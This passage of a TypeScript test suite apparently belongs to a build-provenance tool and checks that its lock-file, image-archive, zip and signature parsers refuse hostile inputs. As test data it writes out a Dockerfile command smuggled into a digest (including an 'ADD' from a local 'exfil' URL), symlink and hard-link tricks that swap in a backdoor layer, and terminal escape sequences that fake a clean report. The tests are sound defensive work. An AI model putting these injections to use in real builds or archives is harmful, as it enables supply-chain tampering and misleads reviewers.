      { name: 'manifest.json', body: JSON.stringify([{ Config: `${sha(cfg)}.json`, Layers: ['l.tar'] }]) },
    ]);
    expect((await read(fewer)).problems).toEqual(["image.tar: manifest.json lists 1 layers, the config's rootfs.diff_ids 2"]);
    const two = await tarOf([
      { name: `${sha(cfg)}.json`, body: cfg },
      { name: 'manifest.json', body: JSON.stringify([{ Config: `${sha(cfg)}.json`, Layers: [] }, { Config: `${sha(cfg)}.json`, Layers: [] }]) },
      { name: 'manifest.json', body: '[]' },
    ]);
    expect((await read(two)).problems.slice(0, 2)).toEqual(['image.tar: entry manifest.json appears twice', 'image.tar: manifest.json must name exactly one image; it names 2']);
    expect((await read(await tarOf([{ name: 'x', body: 'x' }]))).problems).toEqual(['image.tar holds no manifest.json or index.json: it is not an image archive']);
  });
});

describe('found by an adversarial review', () => {
  it('a Repfile.lock whose digest carries Dockerfile text is refused, in a project and in a bundle', async () => {
    const digest = `sha256:${'a'.repeat(64)}`;
    expect(lockProblem({ lockVersion: 1, images: { 'busybox:latest': digest } })).toBeUndefined();
    const injected = `${digest} AS x\nADD http://127.0.0.1:9/exfil /exfil\nFROM x`;
    expect(lockProblem({ lockVersion: 1, images: { 'busybox:latest': injected } })).toMatch(/^images\["busybox:latest"\]: ".*" is not a digest \(sha256: and 64 hex digits\)/);
    expect(lockProblem({ lockVersion: 1, images: { 'busybox:latest\nRUN id': digest } })).toMatch(/^images: "busybox:latest\\nRUN id" is not an image reference/);
    expect(lockProblem({})).toMatch(/^not a Repfile.lock of version 1/);

    const dir = makeProject({ Repfile: REPFILE, 'data/x': 'x\n', 'Repfile.lock': JSON.stringify({ lockVersion: 1, images: { 'busybox:latest': injected } }) });
    folders.add(dir);
    const r = spawnSync(process.execPath, [CLI, 'build', '--engine', 'none'], { cwd: dir, encoding: 'utf8' });
    expect(r.status).toBe(2);
    expect(r.stderr).toMatch(/^Repfile.lock: images\["busybox:latest"\]: .* is not a digest/);

    const b = copyOf(await publishedBundle());
    writeFileSync(path.join(b, 'Repfile.lock'), JSON.stringify({ lockVersion: 1, images: { 'busybox:latest': injected } }));
    reseal(b);
    const report = await verifyPrivately(b);
    expect(report.ok).toBe(false);
    expect(failures(report).find((f) => f[0] === 'keys')?.[1]).toMatch(/Repfile.lock: images\["busybox:latest"\]: .* is not a digest/);
  });

  it('a folder bundle is bounded in size like an archive: a huge sparse file is refused before it is read', async () => {
    const b = copyOf(await publishedBundle());
    writeFileSync(path.join(b, 'huge'), '');
    truncateSync(path.join(b, 'huge'), 64 * 1024 ** 3);
    const t0 = Date.now();
    const report = await verifyPrivately(b, { limits: { maxBytes: 1024 ** 3 } });
    expect(failures(report)).toEqual([['bundle', 'the bundle holds more than 1 GiB; if you trust it, raise the bound with --max-size SIZE']]);
    expect(Date.now() - t0).toBeLessThan(10_000);
  });

  it('image.tar may name its image only with the statement\'s tag: loading it must not move a tag of the reader\'s', async () => {
    const a = await tarOf([{ name: 'a', body: 'a' }]);
    const ok = await dockerArchive([a]);
    const found = await readImageArchive(Readable.from([ok.tar]));
    expect(imageProblems(found, ok.config, 'paper:latest')).toEqual([]);
    expect(imageProblems(found, ok.config, 'docker.io/library/paper:latest')).toEqual([]);
    expect(imageProblems(found, ok.config, 'other:1')).toEqual(['image.tar names its image paper:latest, not other:1: loading it would tag one of your images']);
    const legacy = await tarOf([{ name: 'repositories', body: JSON.stringify({ 'busybox': { latest: ok.config } }) }]);
    const withRepos = await readImageArchive(Readable.from([Buffer.concat([legacy.subarray(0, legacy.length - 1024), ok.tar])]));
    expect(withRepos.tags).toEqual(['busybox:latest', 'paper:latest']);
    expect(imageProblems(withRepos, ok.config, 'paper:latest')).toContain('image.tar names its image busybox:latest, not paper:latest: loading it would tag one of your images');
  });

  it('an image archive entry written through a link the archive made (or a hard link through one) is refused, naming it: tar and docker load would read other bytes', async () => {
    const layer = await tarOf([{ name: 'a', body: 'a' }]);
    const evilLayer = await tarOf([{ name: 'usr/bin/backdoor', body: 'evil', mode: 0o755 }]);
    const configOf = (l: Buffer) => Buffer.from(JSON.stringify({ architecture: 'amd64', os: 'linux', rootfs: { type: 'layers', diff_ids: [`sha256:${sha(l)}`] } }));
    const good = configOf(layer);
    const evil = configOf(evilLayer);
    const [C, L] = [sha(good), sha(layer)];
    const manifest = JSON.stringify([{ Config: `blobs/sha256/${C}`, RepoTags: ['paper:latest'], Layers: [`blobs/sha256/${L}`] }]);
    // Written with rep's own tar writer: folders x/ and x/sha256/, blobs -> x, the good blobs through it,
    // then x/sha256/ overwriting them with the evil config and layer under the same names.
    const archive = (entries: [string, TarHeader['type'], Buffer | string][]) => {
      const chunks: Buffer[] = [];
      const t = new TarWriter((b) => chunks.push(b));
      for (const [name, type, body] of entries) {
        const h: TarHeader = { name, type, mode: type === 'directory' ? 0o755 : 0o644, uid: 0, gid: 0, mtime: 0, size: 0 };
        if (type === 'file') t.entry(h, Buffer.from(body));
        else t.entry({ ...h, linkname: type === 'directory' ? undefined : String(body) });
      }
      t.finish();
      return Buffer.concat(chunks);
    };
    const problems = async (entries: [string, TarHeader['type'], Buffer | string][]) => imageProblems(await readImageArchive(Readable.from([archive(entries)])), C, 'paper:latest');
    const overwrite: [string, TarHeader['type'], Buffer | string][] = [
      ['x/', 'directory', ''],
      ['x/sha256/', 'directory', ''],
      ['blobs', 'symlink', 'x'],
      [`blobs/sha256/${C}`, 'file', good],
      [`blobs/sha256/${L}`, 'file', layer],
      [`x/sha256/${C}`, 'file', evil],
      [`x/sha256/${L}`, 'file', evilLayer],
      ['manifest.json', 'file', manifest],
    ];
    expect(await problems(overwrite)).toEqual([
      `image.tar: entry blobs/sha256/${C} goes through the link blobs`,
      `image.tar: entry blobs/sha256/${L} goes through the link blobs`,
      `image.tar: config blobs/sha256/${C} is not in the archive`,
    ]);
    // The same names as a tar lists them ("./"): made plain first, then checked.
    expect((await problems(overwrite.map(([n, t, b]) => [`./${n}`, t, b])))[0]).toBe(`image.tar: entry blobs/sha256/${C} goes through the link blobs`);
    // The link after the good blobs: docker load replaces the folder blobs/ with it, and reads x/.
    const relinked = await problems([
      [`blobs/sha256/${C}`, 'file', good],
      [`blobs/sha256/${L}`, 'file', layer],
      [`x/sha256/${C}`, 'file', evil],
      [`x/sha256/${L}`, 'file', evilLayer],
      ['blobs', 'symlink', 'x'],
      ['manifest.json', 'file', manifest],
    ]);
    expect(relinked).toEqual(['image.tar: entry blobs comes after entries under it, as if blobs were a folder']);
    // A hard link is made by its target's path, followed through links: cfg.json is the evil config.
    const hard = await problems([
      ['blobs', 'symlink', 'x'],
      [`x/sha256/${C}`, 'file', evil],
      [`${C}.json`, 'link', `blobs/sha256/${C}`],
      [`l/layer.tar`, 'file', layer],
      ['manifest.json', 'file', JSON.stringify([{ Config: `${C}.json`, RepoTags: ['paper:latest'], Layers: ['l/layer.tar'] }])],
    ]);
    expect(hard[0]).toBe(`image.tar: entry ${C}.json links to "blobs/sha256/${C}": the target goes through the link blobs`);
    // A hard link to a symbolic link is a symbolic link elsewhere: its relative target is read from there.
    const toLink = await problems([
      ['a/evil.json', 'file', good],
      ['evil.json', 'file', evil],
      ['a/s', 'symlink', 'evil.json'],
      [`${C}.json`, 'link', 'a/s'],
      [`l/layer.tar`, 'file', layer],
      ['manifest.json', 'file', JSON.stringify([{ Config: `${C}.json`, RepoTags: ['paper:latest'], Layers: ['l/layer.tar'] }])],
    ]);
    expect(toLink[0]).toBe(`image.tar: entry ${C}.json links to "a/s": the target is not a file before it in the archive`);
    // An OCI blob reached through a link is named by its digest too.
    const linkedBlob = await problems([
      ['index.json', 'file', JSON.stringify({ schemaVersion: 2, manifests: [{ mediaType: 'application/vnd.oci.image.manifest.v1+json', digest: `sha256:${'e'.repeat(64)}` }] })],
      ['m.json', 'file', JSON.stringify({ schemaVersion: 2, config: { digest: `sha256:${C}` }, layers: [{ mediaType: 'application/vnd.oci.image.layer.v1.tar', digest: `sha256:${L}` }] })],
      [`blobs/sha256/${'e'.repeat(64)}`, 'symlink', '../../m.json'],
      [`blobs/sha256/${C}`, 'file', good],
      [`blobs/sha256/${L}`, 'file', layer],
    ]);
    expect(linkedBlob).toEqual([`image.tar: blob blobs/sha256/${'e'.repeat(64)} has sha256:${sha(JSON.stringify({ schemaVersion: 2, config: { digest: `sha256:${C}` }, layers: [{ mediaType: 'application/vnd.oci.image.layer.v1.tar', digest: `sha256:${L}` }] }))}, not the digest its name says`]);
  });

  it('what rep writes (image.oci.tar, the archive it loads) and what podman writes (a link per layer to its file) still pass', async () => {
    const layer = await tarOf([{ name: 'a', body: 'a' }]);
    const config = Buffer.from(JSON.stringify({ architecture: 'amd64', os: 'linux', rootfs: { type: 'layers', diff_ids: [`sha256:${sha(layer)}`] } }));
    const dir = fresh('rep-attack-oci-');
    writeFileSync(path.join(dir, sha(config)), config);
    writeFileSync(path.join(dir, sha(layer)), layer);
    const oci = path.join(dir, 'image.oci.tar');
    await writeOciArchive({ config: { sha256: sha(config), size: config.length }, layers: [{ sha256: sha(layer), size: layer.length }] }, 'paper:latest', dir, oci, new Date(0));
    const found = await readImageArchive(Readable.from([readFileSync(oci)]), { label: 'image.oci.tar' });
    expect(imageProblems(found, sha(config), 'paper:latest')).toEqual([]);
    const loaded = path.join(dir, 'load.tar');
    const w = new DockerArchiveWriter(loaded, 0);
    const diffId = w.layer((t) => t.entry({ name: 'a', type: 'file', mode: 0o644, uid: 0, gid: 0, mtime: 0, size: 1 }, Buffer.from('a')));
    const cfg = Buffer.from(JSON.stringify({ rootfs: { type: 'layers', diff_ids: [diffId] } }));
    w.finish({ bytes: cfg, digest: `sha256:${sha(cfg)}` });
    expect((await readImageArchive(Readable.from([readFileSync(loaded)]))).problems).toEqual([]);
    const podman = await dockerArchive([layer, await tarOf([{ name: 'b', body: 'b' }])], { podman: true });
    expect(imageProblems(await readImageArchive(Readable.from([podman.tar])), podman.config, 'paper:latest')).toEqual([]);
  });

  it('a zip entry name the zip reader refuses is printed with its escape sequences escaped', async () => {
    const zip = await zipOf([{ name: '\u00e9\u001b]0;PWNED\u0007\u001b[2J\u001b[31mREDQQb', body: 'x' }]);
    // The same length, with a backslash, which the zip reader refuses by name (quoting it).
    const bytes = Buffer.from(zip.toString('latin1').replaceAll('QQb', '\\Qb'), 'latin1');
    const file = path.join(fresh('rep-attack-zip-'), 'b.zip');
    writeFileSync(file, bytes);
    const r = cli(['verify', file]);
    expect(r.code).toBe(1);
    expect(r.stdout + r.stderr).not.toMatch(/[\u001b\u0007]/);
    expect(r.stdout).toMatch(/cannot unpack: .*\\u001b/);
  });

  it('an envelope with more signatures than any signer needs is refused without checking each', () => {
    const { privateKey, publicKey } = generateKeyPairSync('ed25519');
    const env = signEnvelope(Buffer.from('{}'), privateKey);
    expect(verifyEnvelope(env, publicKey)).toBe(true);
    const junk = Array.from({ length: MAX_SIGNATURES }, () => ({ keyid: 'x', sig: 'AAAA' }));
    expect(verifyEnvelope({ ...env, signatures: [...junk, ...env.signatures] }, publicKey)).toBe(false);
    expect(verifyEnvelope({ ...env, signatures: [...junk.slice(1), ...env.signatures] }, publicKey)).toBe(true);
  });

  it('a statement whose digests are not strings is not a statement (a deeply nested one used to exhaust the stack when printed)', async () => {
    const b = await publishedBundle();
    const text = readFileSync(path.join(b, 'provenance.json'), 'utf8');
    expect(parseStatement(Buffer.from(text))).toBeDefined();
    const st = JSON.parse(text) as { predicate: { runDetails: { byproducts: { digest: Record<string, unknown> }[] } } };
    for (const bad of [[[['deep']]], 7, { sha256: 'x' }]) {
      st.predicate.runDetails.byproducts[0]!.digest.sha256 = bad;
      expect(parseStatement(Buffer.from(JSON.stringify(st)))).toBeUndefined();
    }
  });

  it('a statement whose digests are not lowercase hex is not a statement: printed to the reviewer, escapes in one drew a clean report over the real one (found by a review)', async () => {
    const b = await publishedBundle();
    const text = readFileSync(path.join(b, 'provenance.json'), 'utf8');
    const fake = '\x1b[7A\r\x1b[Jok      checksums\nrep: bundle verified\n\x1b[8m';
    for (const bad of [fake, 'A'.repeat(64), 'a'.repeat(63), `${'a'.repeat(64)}\n`]) {
      const st = JSON.parse(text) as { subject: { digest: Record<string, string> }[]; predicate: { runDetails: { byproducts: { digest: Record<string, unknown> }[] } } };
      st.subject[0]!.digest.sha256 = bad;
      expect(parseStatement(Buffer.from(JSON.stringify(st))), JSON.stringify(bad)).toBeUndefined();
    }
    const other = JSON.parse(text) as { subject: { digest: Record<string, string> }[] };
    other.subject[0]!.digest.sha512 = '\x1b[2J';
    expect(parseStatement(Buffer.from(JSON.stringify(other)))).toBeUndefined();
    // Where a digest reaches a line anyway (the rebuild's answer, an archive's image), it is not printed as it is.
    expect(digestAnswer(fake, `sha256:${'b'.repeat(64)}`, [], new Map()).text.join('\n')).not.toMatch(/\x1b/);
    const found: Parameters<typeof imageProblems>[0] = { label: 'image.tar', configs: ['c'.repeat(64)], images: [], tags: [], problems: [] };
    expect(imageProblems(found, fake, undefined).join('\n')).not.toMatch(/\x1b/);
  });

  it('a bundle file its reader refuses is said with the reader\'s reason, escaped, not "the operation was aborted" (found by a review)', async () => {
    const dir = mkdtempSync(path.join(tmpdir(), 'rep-tap-'));
    try {
      writeFileSync(path.join(dir, 'image.tar'), Buffer.alloc(4096, 1));
      const r = await hashInside(dir, 'image.tar', async (s) => {
        await new Promise((resolve) => s.once('data', resolve));
        s.destroy();
        throw new Error('a tar entry "evil\u202e\x1b[31m/" whose name ends in "/" but is no folder');
      });
      expect(r).toEqual({ problem: 'cannot read image.tar: a tar entry "evil\\u202e\\u001b[31m/" whose name ends in "/" but is no folder' });
    } finally {
      rmSync(dir, { recursive: true, force: true });
    }
  });

  it('a statement whose resolved dependencies are not a list of descriptors is not a statement (verify threw "is not iterable"; found by a review)', async () => {
    const b = await publishedBundle();
    const text = readFileSync(path.join(b, 'provenance.json'), 'utf8');
    for (const bad of [undefined, {}, [null], [{ name: 7 }], [{ digest: { sha256: [1] } }]]) {
      const st = JSON.parse(text) as { predicate: { buildDefinition: { resolvedDependencies?: unknown } } };
      st.predicate.buildDefinition.resolvedDependencies = bad;
      expect(parseStatement(Buffer.from(JSON.stringify(st))), JSON.stringify(bad)).toBeUndefined();
    }
  });
});
